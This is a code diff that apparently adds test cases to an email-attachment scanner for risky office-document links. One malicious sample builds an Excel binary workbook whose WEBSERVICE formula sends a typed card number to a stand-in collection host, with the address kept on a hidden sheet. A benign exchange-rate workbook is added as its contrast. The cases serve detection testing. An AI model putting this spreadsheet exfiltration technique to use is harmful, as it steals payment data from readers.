@@ -230,6 +230,16 @@ func officeLinkCases() []officeCase {
 			data: xlsxOf([][]string{{"Region", "Sales"}}, nil, "", connectionsPart(`<connection id="1" odcFile="\\files.example.net@SSL\DavWWWRoot\conn\Sales.odc" onlyUseConnectionFile="1" name="Sales" type="5" refreshedVersion="8" refreshOnLoad="1" background="1">`+
 				`<dbPr connection="Provider=SQLOLEDB.1;Integrated Security=SSPI;Initial Catalog=Sales;Data Source=SQL01" command="&quot;Sales&quot;" commandType="3"/></connection>`)),
 			wants: []relWant{{"heuristic", "query-file-fetch", "/xl/connections.xml"}}},
+		{name: "xlsb-webservice-setup-sheet", about: "Excel binary workbook (.xlsb) whose WEBSERVICE takes its address from a cell of another sheet (a 3-D reference, Ptg12Ref3d through the external sheet list) and sends the cell of the order sheet where the reader types a card number",
+			action: policy.Tag, subject: "Order form", body: "Please fill in the order form.\n", ctype: "application/vnd.ms-excel.sheet.binary.macroEnabled.12", file: "order.xlsb",
+			data: formats.XLSB(formats.XLSWorkbook{SheetRefs: true,
+				Sheets: []formats.XLSSheet{{Name: "Order", Formulas: []formats.XLSFormula{
+					{Rgce: formats.Cat(formats.PtgName(1), formats.Ptg12Ref3d(1, 0, 0), formats.Ptg12Ref(1, 1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}},
+					Cells: []formats.XLSCell{{Row: 1, Col: 0, Text: "Card number:"}}},
+					{Name: "Setup", State: 1, Cells: []formats.XLSCell{{Row: 0, Col: 0, Text: "https://collect.example.net/c?n="}}}},
+				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
+				Strings: []string{"Card number:", "https://collect.example.net/c?n="}}),
+			wants: []relWant{{"heuristic", "formula-web-fetch", "/web-formulas"}}},
 		{name: "odt-linked-section-web", about: "OpenDocument text whose section is linked to a document on the web (text:section-source), which becomes the section's text, as Word's INCLUDETEXT",
 			action: policy.Quarantine, subject: "Terms", body: "Our terms.\n", ctype: ctOdt, file: "terms.odt",
 			data: odf(ctOdt, `<office:text><text:p>Terms</text:p><text:section text:name="Terms"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="https://files.example.net/terms.odt" text:filter-name="writer8"/>`+
@@ -292,6 +302,15 @@ func officeLinkClean() []Sample {
 					Cells: []formats.XLSCell{{Row: 0, Col: 1, Text: "EUR"}}}},
 				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
 				Strings: []string{"EUR"}})))})
+	add(ok("xlsb-rates-setup-sheet", "an Excel binary workbook from a supplier reading exchange rates from an address and a currency kept on its setup sheet (3-D references)"),
+		mail{from: "Accounts <accounts@supplies.example.com>", subject: "Rates", root: multipart("mixed", text("The price list converts with today's rates; the currency is on the Setup sheet.\n"),
+			attach("application/vnd.ms-excel.sheet.binary.macroEnabled.12", "prices.xlsb", formats.XLSB(formats.XLSWorkbook{SheetRefs: true,
+				Sheets: []formats.XLSSheet{{Name: "Prices", Formulas: []formats.XLSFormula{
+					{Rgce: formats.Cat(formats.PtgName(1), formats.Ptg12Ref3d(1, 0, 0), formats.Ptg12Ref3d(1, 0, 1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}},
+					Cells: []formats.XLSCell{{Row: 0, Col: 1, Text: "Price"}}},
+					{Name: "Setup", Cells: []formats.XLSCell{{Row: 0, Col: 0, Text: "https://api.rates.example/latest?base="}, {Row: 0, Col: 1, Text: "EUR"}}}},
+				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
+				Strings: []string{"Price", "https://api.rates.example/latest?base=", "EUR"}})))})
 	add(ok("ods-webservice-feed", "an OpenDocument spreadsheet from a supplier reading its news feed on a named host with FILTERXML(WEBSERVICE(...)), the address in another cell"),
 		mail{from: "Accounts <accounts@supplies.example.com>", subject: "News", root: multipart("mixed", text("Our news, always current.\n"),
 			attach(ctOds, "news.ods", odf(ctOds, `<office:spreadsheet><table:table table:name="News"><table:table-row>`+
